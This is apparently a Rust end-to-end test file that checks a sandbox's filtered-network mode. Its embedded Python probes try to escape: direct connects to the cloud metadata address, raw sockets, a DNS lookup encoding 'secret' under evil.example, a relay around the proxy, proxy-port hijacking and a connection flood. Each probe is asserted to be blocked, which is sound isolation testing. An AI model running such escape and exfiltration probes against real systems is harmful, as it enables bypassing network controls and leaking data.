//! What a program finds that goes round the proxy, or looks for a way to it.

use isol8_e2e::harness::{internet::PUBLIC, wait::seconds};

use super::vector::{EVIL, is_block};

const FILTERED: [&str; 4] = ["--net", "filtered", "--allow", r"example\.com"];

both_engines_online! {
    /// NE02, NE20: no interface, no resolver, at once; the origin that answers
    /// at every address of this internet hears nothing.
    fn there_is_no_other_way(stage: &Stage, internet: &Internet) {
        drop(internet.resolver.take_asked());
        let code = "import socket, errno, time, subprocess\n\
            def go(family, kind, address, proto=0):\n \
             begun = time.time()\n \
             try:\n  \
              s = socket.socket(family, kind, proto); s.settimeout(5)\n  \
              s.connect(address); s.send(b'x'); r = 'OK'\n \
             except OSError as e: r = errno.errorcode.get(e.errno, repr(e))\n \
             return r if time.time() - begun < 1 else r + ' late'\n\
            I, J, S, D = socket.AF_INET, socket.AF_INET6, socket.SOCK_STREAM, socket.SOCK_DGRAM\n\
            print(*[l.split(':')[0].strip() for l in open('/proc/net/dev').readlines()[2:]])\n\
            print(go(I, S, ('198.51.100.10', 80)), go(I, S, ('198.51.100.10', 443)), go(J, S, ('2001:db8::1', 443)),\n  \
             go(I, S, ('169.254.169.254', 80)), go(I, S, ('172.17.0.1', 80)), go(I, S, ('10.0.0.1', 80)))\n\
            print(go(I, D, ('198.51.100.10', 53)), go(I, D, ('127.0.0.11', 53)), go(I, D, ('198.51.100.10', 443)), go(J, D, ('2001:db8::1', 53)))\n\
            print(go(I, S, ('127.0.0.1', 80)), go(I, S, ('127.0.0.1', 443)), go(I, S, ('127.0.0.1', 53)), go(I, S, ('127.0.0.11', 53)))\n\
            print(go(I, D, ('198.51.100.10', 0), 1), go(I, socket.SOCK_RAW, ('198.51.100.10', 0), 1), go(socket.AF_PACKET, socket.SOCK_RAW, ('lo', 0)))\n\
            for name in ('example.com', 'c2VjcmV0.evil.example', 'localhost.evil.example'):\n \
             begun = time.time()\n \
             try: print(socket.getaddrinfo(name, 80))\n \
             except OSError as e: print('no name' if time.time() - begun < 1 else 'late')\n\
            print(subprocess.run(['getent', 'hosts', 'example.com'], capture_output=True).stdout)";
        let ran = stage.python(code).args(FILTERED).go();
        let out = ran.ok().replace("EADDRNOTAVAIL", "ENETUNREACH");
        let lines: Vec<&str> = out.lines().collect();
        assert_eq!(lines[0], "lo");
        assert_eq!(lines[1], ["ENETUNREACH"; 6].join(" "), "{ran:?}");
        let datagrams: Vec<&str> = lines[2].split(' ').collect();
        assert!(["ENETUNREACH", "ECONNREFUSED", "OK"].contains(&datagrams[1]), "{ran:?}");
        assert_eq!([datagrams[0], datagrams[2], datagrams[3]], ["ENETUNREACH"; 3], "{ran:?}");
        assert_eq!(lines[3], ["ECONNREFUSED"; 4].join(" "), "{ran:?}");
        assert!(lines[4].split(' ').all(|word| ["EPERM", "EACCES", "EPROTONOSUPPORT", "EAFNOSUPPORT", "ENETUNREACH"].contains(&word)), "{ran:?}");
        assert_eq!(lines[5..8], ["no name"; 3], "{ran:?}");
        assert_eq!(lines[8], "b''");
        assert_eq!(internet.resolver.take_asked(), Vec::<String>::new(), "no question left the sandbox");
        assert_eq!(internet.origin.take_connections(), []);
    }

    /// NE21: what stands between a program and the proxy inside of the sandbox
    /// changes nothing.
    fn a_relay_gets_the_same_verdict(stage: &Stage, internet: &Internet) {
        internet.name(EVIL, PUBLIC);
        let code = "import socket, threading, urllib.request, urllib.error\n\
            def pump(a, b):\n \
             while data := a.recv(65536): b.sendall(data)\n \
             b.shutdown(socket.SHUT_WR)\n\
            def relay():\n \
             s = socket.create_server(('127.0.0.1', 3128))\n \
             while True:\n  \
              a, _ = s.accept(); b = socket.create_connection(('127.0.0.1', 8118))\n  \
              for x, y in ((a, b), (b, a)): threading.Thread(target=pump, args=(x, y), daemon=True).start()\n\
            ready = socket.socket; threading.Thread(target=relay, daemon=True).start()\n\
            while True:\n \
             try: socket.create_connection(('127.0.0.1', 3128)).close(); break\n \
             except ConnectionRefusedError: pass\n\
            o = urllib.request.build_opener(urllib.request.ProxyHandler({'http': 'http://127.0.0.1:3128', 'https': 'http://127.0.0.1:3128'}))\n\
            for url in ('http://example.com/x', 'http://evil.example/x', 'http://169.254.169.254/', 'https://example.com/x', 'https://evil.example/x'):\n \
             try: print(o.open(url).status)\n \
             except urllib.error.HTTPError as e: print(e.code)\n \
             except urllib.error.URLError as e: print('403' if '403' in str(e) else e)";
        let ran = stage.python(code).args(FILTERED).go();
        assert_eq!(ran.ok(), "200\n403\n403\n200\n403\n");
        assert_eq!(internet.origin.take_seen().len(), 2);
    }

    /// NE22: the door cannot be taken over, closed or looked behind.
    fn the_door_is_not_the_programs(stage: &Stage, internet: &Internet) {
        let code = "import socket, errno, os, glob, urllib.request\n\
            for options in ((), (socket.SO_REUSEADDR,), (socket.SO_REUSEADDR, socket.SO_REUSEPORT)):\n \
             for host in ('127.0.0.1', '0.0.0.0'):\n  \
              s = socket.socket()\n  \
              for o in options: s.setsockopt(socket.SOL_SOCKET, o, 1)\n  \
              try: s.bind((host, 8118)); s.listen(); print('took it', options, host)\n  \
              except OSError as e: print(errno.errorcode[e.errno], end=' ')\n\
            print()\n\
            # The proxy is no process of this sandbox, and its socket is not held by one that a program sees into.\n\
            print(*sorted(int(p) for p in os.listdir('/proc') if p.isdigit() and int(p) != os.getpid()))\n\
            for p in glob.glob('/proc/1/fd*'):\n \
             try: print(os.listdir(p))\n \
             except OSError as e: print(errno.errorcode[e.errno], end=' ')\n\
            print()\n\
            print(open('/proc/net/unix').read().count('@'), [l for l in open('/proc/net/tcp').readlines()[1:] if ':1FB6' in l.split()[1]][0].split()[3])\n\
            print(urllib.request.urlopen('http://example.com/x').status)";
        let ran = stage.python(code).args(FILTERED).go();
        let out = ran.ok();
        let lines: Vec<&str> = out.lines().collect();
        assert_eq!(lines[0].trim(), ["EADDRINUSE"; 6].join(" "), "{ran:?}");
        assert_eq!(lines[1], "1", "{ran:?}");
        assert!(lines[2].split_whitespace().all(|word| ["EACCES", "EPERM"].contains(&word)), "{ran:?}");
        // No abstract socket; the door listens (state 0A) all the same.
        assert_eq!(lines[3], "0 0A", "{ran:?}");
        assert_eq!(lines[4], "200", "{ran:?}");
        assert_eq!(internet.origin.take_seen().len(), 1);
    }

    /// NE25: a neighbour's ports are not reachable, directly or by the proxy.
    fn neighbours_do_not_meet(stage: &Stage, internet: &Internet) {
        let server = "import socket, sys\ns = socket.create_server(('0.0.0.0', 80)) if False else socket.create_server(('0.0.0.0', 8081))\n\
            u = socket.socket(socket.AF_UNIX); u.bind('\\0neighbour'); u.listen()\n\
            print('up', flush=True); sys.stdin.read()\n\
            s.setblocking(False); u.setblocking(False)\n\
            for x in (s, u):\n \
             try: x.accept(); print('met')\n \
             except BlockingIOError: print('nobody')";
        let one = stage.python(server).args(FILTERED).open_stdin().start();
        one.until_stdout("up");
        let code = "import socket, errno\n\
            for family, address in ((socket.AF_INET, ('127.0.0.1', 8081)), (socket.AF_INET, ('0.0.0.0', 8081)), (socket.AF_UNIX, '\\0neighbour')):\n \
             s = socket.socket(family); s.settimeout(3)\n \
             try: s.connect(address); print('met')\n \
             except OSError as e: print(errno.errorcode[e.errno])\n\
            s = socket.create_connection(('127.0.0.1', 8118))\n\
            s.sendall(b'GET http://127.0.0.1:8081/ HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n')\n\
            print(s.makefile().read().split('\\n')[0])";
        let two = stage.python(code).args(["--net", "filtered", "--allow", ".*"]).go();
        let out = two.ok();
        let refused: Vec<&str> = out.lines().collect();
        assert_eq!(refused[..3], ["ECONNREFUSED"; 3], "{two:?}");
        assert!(refused[3].contains(" 403 "), "{two:?}");
        assert_eq!(one.finish().ok(), "up\nnobody\nnobody\n");
        assert_eq!(internet.origin.take_connections(), []);
    }

    /// What points tools to the proxy is in the environment, in `filtered`
    /// alone.
    fn the_environment_names_the_proxy(stage: &Stage, internet: &Internet) {
        let code = "import os; print(*(f'{k}={v}' for k, v in sorted(os.environ.items()) if 'proxy' in k.lower()))";
        let ran = stage.python(code).args(FILTERED).go();
        let out = ran.ok();
        for name in ["HTTP_PROXY", "HTTPS_PROXY", "http_proxy", "https_proxy"] {
            assert!(out.contains(&format!("{name}=http://127.0.0.1:8118")), "{out}");
        }
        for name in ["NO_PROXY", "no_proxy"] {
            assert!(out.contains(&format!("{name}=localhost,127.0.0.1")), "{out}");
        }
        assert_eq!(stage.python(code).go().ok(), "\n");
        assert_eq!(stage.python(code).args(["--net", "host"]).go().ok(), "\n");
        assert_eq!(internet.origin.take_connections(), []);
    }

    /// NE24: thousands of connections, half of them never asking anything,
    /// while another sandbox works.
    fn many_connections_hurt_nobody_else(stage: &Stage, internet: &Internet) {
        let hog = "import socket, sys\n\
            held, refused = [], 0\n\
            for i in range(900):\n \
             s = socket.create_connection(('127.0.0.1', 8118), 10)\n \
             s.sendall(b'GET http://example.com/x HTTP/1.1\\r\\nHost:')\n \
             held.append(s)\n\
            print('held', len(held), flush=True)\n\
            sys.stdin.read()\n\
            answers = set()\n\
            for s in held[300:]:\n \
             try: answers.add(s.recv(12).decode())\n \
             except ConnectionResetError: answers.add('reset')\n\
            print(sorted(answers))";
        let hog = stage.python(hog).args(FILTERED).open_stdin().start();
        hog.until_stdout("held");
        let code = "import urllib.request\n\
            for i in range(50): assert urllib.request.urlopen('http://example.com/y').status == 200\n\
            print('fine')";
        let other = stage.python(code).args(FILTERED).go();
        assert_eq!(other.ok(), "fine\n");
        other.within(seconds(15));
        let hog = hog.finish();
        let answers = hog.ok();
        // Whoever is turned away while he speaks may hear a reset instead.
        assert!(!answers.contains("200") && (answers.contains("429") || answers.contains("reset")), "{hog:?}");
        let seen = internet.origin.take_seen();
        assert!(seen.len() == 50 && seen.iter().all(|seen| seen.path() == "/y"), "{}", seen.len());
    }

    /// No policy is left open by a run that is over: the next one begins with
    /// its own.
    fn every_run_has_its_own_rules(stage: &Stage, internet: &Internet) {
        internet.name(EVIL, PUBLIC);
        let code = "import urllib.request, urllib.error\n\
            for url in ('http://example.com/x', 'http://evil.example/x'):\n \
             try: print(urllib.request.urlopen(url).status)\n \
             except urllib.error.HTTPError as e: print(e.code, e.read().decode(), end='')";
        for (allow, expected) in [
            (r"example\.com", [200, 403]),
            (r"evil\.example", [403, 200]),
            (r"nobody", [403, 403]),
            (".*", [200, 200]),
            (r"example\.com", [200, 403]),
        ] {
            let ran = stage.python(code).args(["--net", "filtered", "--allow", allow]).go();
            let out = ran.ok();
            assert_eq!(out.lines().count(), 2, "{allow}: {ran:?}");
            for (line, status) in out.lines().zip(expected) {
                assert!(line.starts_with(&status.to_string()), "{allow}: {ran:?}");
                assert!(status == 200 || is_block(&format!("{}\n", &line[4..])), "{ran:?}");
            }
        }
        // No network is none, also where a filtered one was just in use.
        let out = stage.python("import socket\ntry: socket.create_connection(('127.0.0.1', 8118))\nexcept OSError as e: print(e.strerror)").go().ok();
        assert_eq!(out, "Connection refused\n");
    }
}
